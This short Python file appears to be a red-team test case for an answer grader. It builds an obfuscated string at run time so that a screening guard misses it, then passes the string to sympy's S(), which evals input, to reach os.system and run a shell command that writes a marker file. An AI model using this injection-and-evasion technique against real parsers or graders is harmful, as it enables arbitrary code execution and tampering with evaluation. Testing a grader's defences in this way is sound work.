"""effect: run-command
tries: S() of a string built at run time (the screen only sees S with a literal) that calls __import__('os').system.

sympy's parser evals its input; lagrade's guard allows plain arithmetic only.
"""

from lagrade.answer import *

text = "_" + "_import_" + "_('o' + 's').system('id > /tmp/lagrade-redteam/drop/pwned-sympify_string_injection')"
L = S(text)
